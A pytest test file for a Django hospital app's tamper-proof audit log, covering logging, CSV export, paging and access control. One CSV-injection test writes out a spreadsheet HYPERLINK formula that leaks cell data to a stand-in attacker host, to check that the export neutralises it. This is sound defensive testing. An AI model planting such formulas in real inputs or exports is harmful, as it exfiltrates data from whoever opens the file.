"""The audit log: a row for every kind of action, append-only (its seals: test_audit_seal.py)."""

import datetime as dt
import re

import pytest
from django.db import DatabaseError, connection, models, transaction
from django.db.models import Q
from django.urls import reverse
from django.utils import timezone

from accounts.audit import audit_context, audit_record
from accounts.models import AuditEvent, Role, audit_action_choices, register_audit_actions, register_renamed_records
from checklists.models import ChecklistAuditAction, Task
from checklists.services import checklists_instantiate

from ..checklists.helpers import blockers_listed, make_event, publish_template
from .helpers import verified_login

Action = AuditEvent.Action
HTMX = {"HTTP_HX_REQUEST": "true"}
ITEMS = [
    {"text": "Weight", "response_kind": "number", "unit": "kg", "min_value": 1, "max_value": 300},
    {"text": "Pump programmed and locked", "needs_verification": True, "verifier_role": "nurse"},
    {"text": "Clear to start", "role": "oncologist", "response_kind": "attestation"},
]


@pytest.fixture
def event(patient, nurse, nurse2, oncologist):
    publish_template(items=ITEMS)
    event = make_event(patient, planned_at=timezone.now() + dt.timedelta(hours=3))
    checklists_instantiate(events=[event])
    return event


def task(event, text):
    return Task.objects.get(event=event, text=text)


def rows(**filters):
    return list(AuditEvent.objects.filter(**filters).order_by("id"))


def test_reading_a_patient_page_is_logged_with_who_where_and_which_patient(client, nurse, patient):
    client.force_login(nurse)
    client.get(reverse("patient_detail", args=[patient.pk]), REMOTE_ADDR="10.1.2.3", HTTP_USER_AGENT="Ward tablet")
    (row,) = rows(action=Action.VIEW, object_type="patients.patient")
    assert (row.actor_id, row.actor_username, row.actor_role) == (nurse.pk, "nurse", Role.NURSE)
    assert (row.patient_id, row.ip, row.user_agent, row.outcome) == (patient.pk, "10.1.2.3", "Ward tablet", "success")


def test_behind_the_trusted_proxy_the_log_keeps_the_clients_address_not_the_proxys(client, nurse, patient, settings):
    settings.SIGNIN_TRUSTED_PROXIES = 1
    client.force_login(nurse)
    # The client claims 6.6.6.6 itself; our proxy (10.0.0.1) appended the address it saw.
    forwarded = "6.6.6.6, 192.0.2.44"
    client.get(reverse("patient_detail", args=[patient.pk]), REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=forwarded)
    client.post(reverse("logout"), REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=forwarded)
    assert {(row.action, row.ip) for row in rows(actor_id=nurse.pk, action__in=["view", "logout"])} == {
        ("view", "192.0.2.44"),
        ("logout", "192.0.2.44"),
    }


def test_a_look_at_another_teams_patient_is_logged_as_denied(client, outsider, patient):
    client.force_login(outsider)
    assert client.get(reverse("patient_detail", args=[patient.pk])).status_code == 404
    (row,) = rows(action=Action.VIEW, outcome=AuditEvent.Outcome.DENIED)
    assert (row.actor_username, row.object_id) == ("outsider", str(patient.pk))


def test_completing_a_task_logs_the_change_as_a_completion_by_the_nurse(client, nurse, event):
    weight = task(event, "Weight")
    client.force_login(nurse)
    client.post(reverse("task_complete", args=[weight.pk]), {f"task-{weight.pk}-value": "72.5"}, **HTMX)
    (row,) = rows(action=Action.COMPLETE, object_type="checklists_task")
    assert (row.actor_username, row.patient_id, row.object_id) == ("nurse", event.patient_id, str(weight.pk))
    assert row.detail["changes"]["status"] == ["open", "done"]
    assert row.detail["changes"]["value"] == ["", "72.5 kg"]


def test_verifying_and_overriding_are_logged_as_such(client, nurse, nurse2, oncologist, event):
    pump = task(event, "Pump programmed and locked")
    client.force_login(nurse)
    client.post(reverse("task_complete", args=[pump.pk]), {f"task-{pump.pk}-value": "on"}, **HTMX)
    client.force_login(nurse2)
    pump.refresh_from_db()
    client.post(reverse("task_verify", args=[pump.pk]), {"version": pump.state_version}, **HTMX)
    client.force_login(oncologist)
    data = {"reason": "Weight on paper, checked by the charge nurse.", "justification": "done_elsewhere"}
    client.post(reverse("event_override", args=[event.pk]), {**data, "confirm": "on", "covers": blockers_listed(event)})
    assert [r.actor_username for r in rows(action=ChecklistAuditAction.VERIFY)] == ["nurse2"]
    (override,) = rows(action=ChecklistAuditAction.OVERRIDE, object_type="checklists_checklist")
    assert override.actor_username == "oncologist"
    assert "override_reason" in override.detail["changes"]


def test_a_bulk_update_writes_one_row_per_changed_record(nurse, event):
    open_tasks = Task.objects.filter(event=event)
    count = open_tasks.count()
    with audit_context(actor_id=nurse.pk, username="nurse", role=Role.NURSE):
        open_tasks.update(due_at=timezone.now() + dt.timedelta(days=1))
    logged = rows(action=Action.UPDATE, object_type="checklists_task")
    assert len(logged) == count
    assert {r.actor_username for r in logged} == {"nurse"}
    assert all(set(r.detail["changes"]) == {"due_at"} for r in logged)


def test_a_change_made_outside_any_request_is_logged_as_the_systems(event):
    Task.objects.filter(event=event).update(help_text="Changed by a job")
    assert {r.actor_id for r in rows(action=Action.UPDATE, object_type="checklists_task")} == {None}


def test_changing_what_a_user_may_do_is_a_permission_change_and_passwords_never_reach_the_log(admin_user, nurse):
    with audit_context(actor_id=admin_user.pk, username="admin"):
        nurse.role = Role.PHARMACIST
        nurse.save()
        nurse.set_password("A-new-long-password-1")
        nurse.save()
    (row,) = rows(object_type="accounts_user", action=Action.PERMISSION_CHANGE)
    assert row.detail["changes"]["role"] == ["nurse", "pharmacist"]
    assert row.actor_username == "admin"
    assert not AuditEvent.objects.filter(detail__changes__has_key="password").exists()


def test_sign_in_sign_out_and_a_failed_sign_in_are_logged(client, nurse):
    nurse.set_password("The-right-password-9")
    nurse.save()
    client.post(reverse("login"), {"username": "nurse", "password": "wrong"})
    client.post(reverse("login"), {"username": "nurse", "password": "The-right-password-9"})
    client.post(reverse("logout"))
    assert [r.action for r in rows(object_type="accounts.user")] == [Action.LOGIN_FAILED, Action.LOGIN, Action.LOGOUT]
    assert rows(action=Action.LOGIN_FAILED)[0].detail == {"username": "nurse"}


def test_what_a_caller_sent_is_logged_cut_to_fit_and_without_nul(db):
    # PostgreSQL's text and jsonb cannot hold NUL, and object_id holds 64 characters: a request
    # made to fail must not fail again, as a 500, at its own audit row.
    row = audit_record(
        action=Action.VIEW,
        object_type="fhir.Patient",
        object_id="1" * 70 + "\x00",
        detail={"query": "x=\x00", "bad\x00key": ["a\x00b", 1]},
    )
    row.refresh_from_db()
    assert row.object_id == "1" * 64
    assert row.detail == {"query": "x=", "badkey": ["ab", 1]}


def test_the_database_refuses_to_change_or_delete_an_audit_row(db):
    row = audit_record(action=Action.VIEW, object_type="patients.patient", object_id=1)
    for statement in ("UPDATE accounts_auditevent SET action = 'create'", "DELETE FROM accounts_auditevent"):
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(statement)
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.objects.filter(pk=row.pk).delete()
    assert AuditEvent.objects.get(pk=row.pk).action == Action.VIEW


@pytest.fixture
def some_events(db):
    audit_record(action=Action.VIEW, object_type="patients.patient", object_id=7, patient_id=7, detail={"x": "<b>"})
    audit_record(action=Action.LOGIN_FAILED, object_type="accounts.user", outcome=AuditEvent.Outcome.FAILURE)


def test_only_administrators_read_the_audit_log(client, nurse, some_events):
    client.force_login(nurse)
    assert client.get(reverse("audit:log")).status_code == 403
    assert client.get(reverse("audit:export")).status_code == 403


def test_the_audit_log_filters_by_patient_action_and_period(client, admin_user, some_events):
    verified_login(client, admin_user)
    today = timezone.localdate().isoformat()
    page = client.get(reverse("audit:log"), {"patient": 7, "action": "view", "start": today, "end": today})
    assert page.status_code == 200
    assert [event.patient_id for event in page.context["page"]] == [7]
    assert "&lt;b&gt;" in page.content.decode()  # free text from the log is escaped


def test_a_row_written_under_a_records_old_name_shows_its_name_now_beside_it(client, admin_user):
    register_renamed_records({"shelf_oldthing": "shelf_newthing"})
    audit_record(action=Action.VIEW, object_type="shelf_oldthing", object_id=3)
    audit_record(action=Action.VIEW, object_type="shelf_newthing", object_id=4)
    verified_login(client, admin_user)
    page = client.get(reverse("audit:log")).content.decode()
    assert 'shelf_oldthing #3 <span class="text-body-secondary">(now shelf_newthing)</span>' in page
    assert "shelf_newthing #4</td>" in page  # a row under the name of now says nothing more
    # The CSV gives the name each row was written with, as sealed.
    exported = b"".join(client.get(reverse("audit:export")).streaming_content).decode()
    assert '"shelf_oldthing"' in exported and "(now " not in exported


def test_an_old_record_name_is_mapped_to_one_name_only():
    register_renamed_records({"shelf_oldthing": "shelf_newthing"})  # the same again: no harm
    with pytest.raises(ValueError, match="shelf_oldthing"):
        register_renamed_records({"shelf_oldthing": "shelf_otherthing"})


def test_a_period_that_ends_before_it_starts_is_refused_at_the_field(client, admin_user, some_events):
    verified_login(client, admin_user)
    page = client.get(reverse("audit:log"), {"start": "2026-11-10", "end": "2026-11-01"})
    assert "The end of the period comes before its start." in page.content.decode()
    assert list(page.context["page"]) == []


@pytest.mark.parametrize("page", ["audit:log", "audit:export"])
def test_the_period_is_made_of_the_utc_days_that_the_log_shows_whatever_the_readers_clock(client, time_machine, page):
    """The log shows its times in UTC, but its days were cut on the reader's clock: for an
    administrator of an Auckland unit, a row shown at "2026-03-20 20:00:00" (UTC) was left out
    of a search for 20 March and found under 21 March."""
    from ..factories import UnitFactory, UserFactory

    auckland = UnitFactory(time_zone="Pacific/Auckland")  # UTC+13 in March
    reader = UserFactory(username="auditor", role="", unit=auckland, is_staff=True)
    time_machine.move_to(dt.datetime(2026, 3, 20, 20, 0, tzinfo=dt.UTC), tick=False)
    row = audit_record(action=Action.LOGIN_FAILED, object_type="accounts.user", outcome=AuditEvent.Outcome.FAILURE)
    verified_login(client, reader)

    def found(day: str) -> bool:
        query = {"action": "login_failed", "start": day, "end": day}
        if page == "audit:log":
            return row in client.get(reverse(page), query).context["page"]
        return f'"{row.pk}",' in b"".join(client.get(reverse(page), query).streaming_content).decode("utf-8-sig")

    assert found("2026-03-20")
    assert not found("2026-03-21") and not found("2026-03-19")


def test_the_csv_export_holds_the_filtered_rows_and_is_itself_logged(client, admin_user, some_events):
    verified_login(client, admin_user)
    response = client.get(reverse("audit:export"), {"action": "login_failed"})
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    assert lines[0].startswith('"id","at","actor_id"')  # every cell quoted (accounts.csv_export)
    assert len(lines) == 2 and ',"login_failed","failure",' in lines[1]
    (export,) = rows(action=Action.EXPORT)
    assert (export.actor_username, export.detail) == ("admin", {"filters": {"action": "login_failed"}})


def test_the_log_names_the_fields_of_a_patients_change_but_never_their_values(client, admin_user, patient):
    """Found by a review: the Detail column showed a patient's names, MRN, birth date and weight
    to administrators, who see no patient record (README)."""
    patient.family_name, patient.weight_kg = "Quixotrel", "41.3"
    patient.save(update_fields=["family_name", "weight_kg"])
    (change,) = AuditEvent.objects.filter(patient_id=patient.pk, object_type="patients_patient", action="update")
    assert change.detail["changes"]["family_name"][1] == "Quixotrel"  # the log keeps the values

    verified_login(client, admin_user)
    page = client.get(reverse("audit:log"), {"patient": patient.pk})
    assert "family_name" in page.text and "weight_kg" in page.text
    assert "Quixotrel" not in page.text and "41.3" not in page.text
    assert "changes: family_name, weight_kg" in page.text and "{&#x27;" not in page.text  # words, not a dict
    export = client.get(reverse("audit:export"), {"patient": patient.pk})
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    assert "family_name" in text and "Quixotrel" not in text and "41.3" not in text


def test_the_audit_log_without_filters_shows_every_row(client, admin_user, some_events):
    verified_login(client, admin_user)
    before = set(AuditEvent.objects.values_list("pk", flat=True))
    page = client.get(reverse("audit:log"))
    assert {event.pk for event in page.context["page"]} == before and len(before) >= 2
    assert f"{len(before)} rows." in page.text  # all on one page: their number is known without a count


def test_reading_the_audit_log_is_itself_logged_with_its_filters_and_the_patients_it_showed(
    client, admin_user, some_events
):
    """Its exports were logged, but not its reads: who looked up what a patient's record went
    through, and when, left no trace."""
    verified_login(client, admin_user)
    client.get(reverse("audit:log"), {"patient": 7})
    (read,) = rows(action=Action.VIEW, object_type="accounts.auditevent")
    assert read.actor_username == "admin" and read.patient_id is None
    assert read.detail == {"filters": {"patient": "7"}, "patients": [7]}


def test_each_app_registers_its_own_audit_verbs():
    """accounts names only the log's own verbs; tasks' and handoffs' come from their apps."""
    verbs = dict(audit_action_choices())
    assert verbs["view"] == "View"
    assert verbs["claim"] == "Claim"  # checklists
    assert verbs["send"] == "Send a handoff"  # coordination.handoffs
    assert "send" not in AuditEvent.Action.values

    class Clashing(models.TextChoices):
        VIEW = "view", "Look"

    with pytest.raises(ValueError, match="view"):
        register_audit_actions(Clashing)


def test_each_app_declares_its_own_abilities():
    """accounts declares only the audit log's; the others come from the apps' policy modules."""
    from accounts.permissions import ABILITIES, Ability
    from checklists.policy import WORK_TASKS
    from coordination.handoffs.policy import SEND_HANDOFF

    assert ABILITIES["work_tasks"] is WORK_TASKS and ABILITIES["send_handoff"] is SEND_HANDOFF
    with pytest.raises(ValueError, match="declared twice"):
        Ability("work_tasks", "again", frozenset())


# --- reads of patient data, logged by one decorator (logs_read) ----------------------------------


def _page_of_a_patient(status: int = 200, *, says: bool = True):
    """A view of patient data as the pages declare one: decorated, saying what it showed."""
    from django.http import HttpResponse

    from accounts.audit import logs_read, shows

    @logs_read("patients.patient", page="summary")
    def view(request, pk):
        if says:
            shows(request, patient_id=pk, events=[3])
        return HttpResponse(status=status)

    return view


@pytest.mark.parametrize("method", ["get", "head"])
def test_a_read_answered_200_is_logged_once_with_the_object_the_patient_and_what_was_shown(rf, db, method):
    _page_of_a_patient()(getattr(rf, method)("/patients/7/summary/"), pk=7)
    (row,) = rows(action=Action.VIEW)
    assert (row.object_type, row.object_id, row.patient_id) == ("patients.patient", "7", 7)
    assert row.detail == {"page": "summary", "events": [3]}


@pytest.mark.parametrize(("method", "status"), [("post", 200), ("get", 302), ("get", 403), ("get", 404)])
def test_a_post_or_an_answer_other_than_200_is_no_read(rf, db, method, status):
    _page_of_a_patient(status)(getattr(rf, method)("/patients/7/summary/"), pk=7)
    assert rows(action=Action.VIEW) == []


def test_a_page_that_does_not_say_what_it_showed_fails_loudly(rf, db):
    from django.core.exceptions import ImproperlyConfigured

    with pytest.raises(ImproperlyConfigured, match="shows"):
        _page_of_a_patient(says=False)(rf.get("/patients/7/summary/"), pk=7)


def test_a_formula_in_a_logged_browser_string_is_exported_as_text(client, admin_user):
    """CSV injection: a failed anonymous sign-in's User-Agent lands in the export as a plain cell."""
    client.post(
        reverse("login"),
        {"username": "nobody", "password": "x"},
        HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?"&A1,"Click")',
    )
    verified_login(client, admin_user)
    response = client.get(reverse("audit:export"), {"action": "login_failed"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK(" in body and ',"=HYPERLINK' not in body and ",=HYPERLINK" not in body


def test_the_csv_export_says_it_is_utf8_and_opens_in_a_spreadsheet_without_mangled_letters(client, admin_user):
    """Without a byte-order mark Excel reads a CSV in the computer's legacy code page: a name such
    as "Zoë Müller" came out as "ZoÃ« MÃ¼ller", an arrow as "â†’"."""
    audit_record(action=Action.VIEW, object_type="patients.patient", detail={"note": "Zoë Müller → ward"})
    verified_login(client, admin_user)
    response = client.get(reverse("audit:export"), {"action": "view"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf") and body.count(b"\xef\xbb\xbf") == 1  # one mark, at the start
    text = body.decode("utf-8-sig")
    assert text.startswith('"id","at"') and "Zoë Müller → ward" in text


def test_pages_for_a_signed_in_user_are_never_stored(client, nurse):
    client.force_login(nurse)
    response = client.get(reverse("home"))
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert "no-store" in client.get(reverse("patients:list"))["Cache-Control"]


def test_a_year_out_of_range_is_a_field_error_not_a_500():
    """A handoff action due 9999-12-31T23:59 was stored as year 10000 UTC, and its pages failed."""
    from django import forms as django_forms

    from accounts.fields import LocalDateTimeField

    field = LocalDateTimeField()
    with pytest.raises(django_forms.ValidationError, match="9999 is a typo"):
        field.clean("9999-12-31T23:59")
    assert field.clean("2027-01-04T08:00").year == 2027


def test_a_filter_that_matches_nothing_says_so(client, admin_user, some_events):
    """An empty page of results is falsy: the page showed the filters and nothing under them, no
    "0 rows", no "No audit events match", as if the search had not run."""
    verified_login(client, admin_user)
    page = client.get(reverse("audit:log"), {"patient": 424242})
    assert page.status_code == 200
    assert "0 rows." in page.text and "No audit events match these filters." in page.text


def test_the_user_filter_finds_the_failed_sign_ins_and_lockout_against_that_name(client, admin_user, nurse):
    """A failed sign-in and a lockout have no actor (nobody signed in): the name tried is in their
    detail. Filtering by "nurse" to see who tried her password found nothing."""
    for _ in range(5):
        client.post(reverse("login"), {"username": "Nurse", "password": "wrong"}, REMOTE_ADDR="10.9.9.9")
    client.post(reverse("login"), {"username": "nurse2", "password": "wrong"}, REMOTE_ADDR="10.8.8.8")
    verified_login(client, admin_user)
    page = client.get(reverse("audit:log"), {"user": "nurse"})
    shown = [(event.action, event.detail.get("username")) for event in page.context["page"]]
    assert shown.count((Action.LOGIN_FAILED, "Nurse")) == 5
    assert (Action.LOCKOUT, "Nurse") in shown
    assert all(name == "Nurse" for _, name in shown)  # not nurse2's
    export = client.get(reverse("audit:export"), {"user": "nurse", "action": "lockout"})
    assert len(b"".join(export.streaming_content).decode("utf-8-sig").splitlines()) == 2


def test_a_refused_token_is_found_under_its_users_name(client, admin_user, nurse):
    """A refused (revoked) token is a failed sign-in of its user, logged without an actor."""
    from accounts.services import token_create, token_revoke

    token, secret = token_create(user=nurse, name="Sync", days=30, second_step_passed=False, actor=nurse)
    token_revoke(token=token, actor=nurse)
    assert client.get("/api/v1/tasks/", HTTP_AUTHORIZATION=f"Bearer {secret}").status_code == 401
    verified_login(client, admin_user)
    page = client.get(reverse("audit:log"), {"user": "nurse", "action": "login_failed"})
    assert [event.detail.get("event") for event in page.context["page"]] == ["token_refused"]


@pytest.mark.parametrize("patient", ["7.5", "1e1"])
def test_a_patient_id_that_is_not_a_whole_number_is_refused_at_its_field(client, admin_user, some_events, patient):
    """A patient id of "7.5" was read as a decimal and rounded down to patient 7, whose rows were shown under it."""
    verified_login(client, admin_user)
    page = client.get(reverse("audit:log"), {"patient": patient})
    assert page.context["filter"].form.errors["patient"] == ["Enter a whole number."]
    assert list(page.context["page"]) == []


def test_the_older_page_starts_after_the_last_row_of_the_page_before(client, admin_user):
    """Reading a page writes a row at the top of the log, and the hospital writes more meanwhile:
    the "Older" page, counted from the new top, began with rows of the page already read."""
    from accounts.audit_report import PAGE_SIZE

    for number in range(PAGE_SIZE + 20):
        audit_record(action=Action.VIEW, object_type="patients.patient", object_id=number)
    verified_login(client, admin_user)
    first = client.get(reverse("audit:log"))
    audit_record(action=Action.VIEW, object_type="patients.patient", object_id="meanwhile")
    older = re.search(r'href="\?([^"]*before=\d+)">Older', first.text)[1].replace("&amp;", "&")
    second = client.get(f"{reverse('audit:log')}?{older}")
    last_seen = list(first.context["page"])[-1].pk
    assert list(second.context["page"])[0].pk < last_seen
    assert [event.pk for event in second.context["page"]] == sorted(
        AuditEvent.objects.filter(pk__lt=last_seen).values_list("pk", flat=True), reverse=True
    )
    # The export offered beside the pages is of the filters, not of the moment
    assert "before" not in re.search(r'href="(/[^"]*export[^"]*)"', second.text)[1]


def _link(page, name: str) -> str:
    return re.search(rf'href="\?([^"]*)">{name}<', page.text)[1].replace("&amp;", "&")


def test_older_then_newer_comes_back_to_the_same_rows_with_the_filters_kept(client, admin_user):
    """Every page is found from a row id (keyset): no page counts the log or skips rows with
    OFFSET, and the filters go along on both links."""
    from accounts.audit_report import PAGE_SIZE

    for number in range(PAGE_SIZE * 2 + 5):
        audit_record(action=Action.VIEW, object_type="patients.patient", object_id=number)
        audit_record(action=Action.LOGIN_FAILED, object_type="accounts.user", outcome=AuditEvent.Outcome.FAILURE)
    verified_login(client, admin_user)
    url = reverse("audit:log")
    first = client.get(url, {"action": "login_failed"})
    assert "Newer<" not in first.text and "on this page; older rows below it" in first.text
    second = client.get(f"{url}?{_link(first, 'Older')}")
    third = client.get(f"{url}?{_link(second, 'Older')}")
    assert "action=login_failed" in _link(second, "Older") and "action=login_failed" in _link(third, "Newer")
    pages = [[event.pk for event in page.context["page"]] for page in (first, second, third)]
    failed = AuditEvent.objects.filter(action=Action.LOGIN_FAILED).values_list("pk", flat=True)
    assert sum(pages, []) == sorted(failed, reverse=True)
    assert [len(rows) for rows in pages] == [PAGE_SIZE, PAGE_SIZE, 5] and "Older<" not in third.text
    back = client.get(f"{url}?{_link(third, 'Newer')}")
    assert [event.pk for event in back.context["page"]] == pages[1]
    top = client.get(f"{url}?{_link(back, 'Newer')}")
    assert [event.pk for event in top.context["page"]] == pages[0] and "Newer<" not in top.text


def _pages(rows, size: int) -> list[list[int]]:
    """Every page of `rows` read down by "Older" from the newest, then every one up by "Newer"
    from the oldest, as ids: both walks must give the same pages."""
    from accounts.paging import keyset_page

    down, page = [], keyset_page(rows, size=size)
    while True:
        down.append([event.pk for event in page])
        if page.older is None:
            break
        page = keyset_page(rows, size=size, before=page.older)
    up = [down[-1]]
    while page.newer is not None:
        page = keyset_page(rows, size=size, after=page.newer)
        up.append([event.pk for event in page])
    return down, up[::-1]


def test_the_user_filter_read_by_its_arms_pages_the_rows_of_its_or_in_the_same_order(nurse):
    """The page reads the union of the user filter's three conditions, each by its index: the rows,
    their order and their pages are those of the OR, a row that two conditions hold shown once."""
    from django.http import QueryDict

    from accounts.audit_report import AuditFilter
    from accounts.paging import Arms, keyset_chunks

    from ..factories import UserFactory

    for n in range(7):
        audit_record(action=Action.VIEW, object_type="patients.patient", object_id=n, actor=nurse)
        audit_record(action=Action.LOGIN_FAILED, outcome="failure", detail={"username": "NURSE"})
        audit_record(action=Action.LOGIN_FAILED, outcome="failure", detail={"username": "nurse2"})
        audit_record(action=Action.LOGIN_FAILED, outcome="failure", object_type="accounts.user", object_id=nurse.pk)
        audit_record(action=Action.VIEW, object_type="accounts.user", object_id=nurse.pk, actor=UserFactory())
    # A row that each of the three conditions holds: no actor id, but her name as actor and as tried.
    both = AuditEvent.objects.create(
        action=Action.LOCKOUT,
        actor_username="Nurse",
        object_type="accounts.user",
        object_id=str(nurse.pk),
        detail={"username": "nurse"},
    )
    for query in ("user=nurse", "user=NURSE&action=login_failed", "user=nurse&outcome=failure", "user=nobody"):
        filterset = AuditFilter(QueryDict(query), queryset=AuditEvent.objects.order_by("-id"))
        assert filterset.is_valid()
        assert isinstance(filterset.rows, Arms)
        expected = list(filterset.qs.order_by("-id").values_list("pk", flat=True))
        down, up = _pages(filterset.rows, size=4)
        assert [pk for page in down for pk in page] == expected, query
        assert up == down, query
        assert [event.pk for event in keyset_chunks(filterset.rows, size=3)] == expected, query
    filterset = AuditFilter(QueryDict("user=nurse"), queryset=AuditEvent.objects.order_by("-id"))
    filterset.is_valid()
    shown = [pk for page in _pages(filterset.rows, size=4)[0] for pk in page]
    assert len(shown) == 7 + 7 + 7 + 1 and shown.count(both.pk) == 1


def test_a_period_holds_the_rows_timed_in_it_whatever_the_order_of_their_ids(db):
    """A period is asked of the rows' times, never of their ids: rows written a little out of their
    times' order (two clocks, the app's and the database's) at either end are in it, and only they.
    (An id range found by the time's index was tried for periods far back, and not kept: it holds
    the period's rows only while no row's time is far from its id's order, and an audit report
    must not miss a row; docs/performance.md.)"""
    from django.http import QueryDict

    from accounts.audit_report import AuditFilter

    day = dt.datetime(2026, 3, 20, tzinfo=dt.UTC)
    times = [
        day - dt.timedelta(hours=2),
        day + dt.timedelta(minutes=3),  # written before the period's first row by time
        day + dt.timedelta(minutes=1),
        day + dt.timedelta(hours=5),
        day + dt.timedelta(days=1, minutes=-1),
        day + dt.timedelta(days=1, minutes=-3),  # written after the period's last row by time
        day + dt.timedelta(days=1, hours=3),
    ]
    AuditEvent.objects.bulk_create(AuditEvent(action="view", object_type="patients.patient", at=at) for at in times)
    in_it = AuditEvent.objects.filter(at__gte=day, at__lt=day + dt.timedelta(days=1)).order_by("-id")
    filterset = AuditFilter(QueryDict("start=2026-03-20&end=2026-03-20"), queryset=AuditEvent.objects.order_by("-id"))
    assert filterset.is_valid()
    down, up = _pages(filterset.rows, size=2)
    assert [pk for page in down for pk in page] == list(in_it.values_list("pk", flat=True)) and len(in_it) == 5
    assert up == down
    # Against the times themselves (the rows the migrations logged today included, whose ids are
    # lower than these rows' and whose times are later: an id range found by the times missed them).
    day_after = day + dt.timedelta(days=1)
    for query, times in (
        ("start=2026-03-20", Q(at__gte=day)),
        ("end=2026-03-19", Q(at__lt=day)),
        ("start=2026-03-20&end=2026-03-20", Q(at__gte=day, at__lt=day_after)),
        ("start=0001-01-01&end=9999-12-31", Q()),
    ):
        filterset = AuditFilter(QueryDict(query), queryset=AuditEvent.objects.order_by("-id"))
        assert filterset.is_valid(), query
        expected = list(AuditEvent.objects.filter(times).order_by("-id").values_list("pk", flat=True))
        assert [pk for page in _pages(filterset.rows, size=2)[0] for pk in page] == expected, query
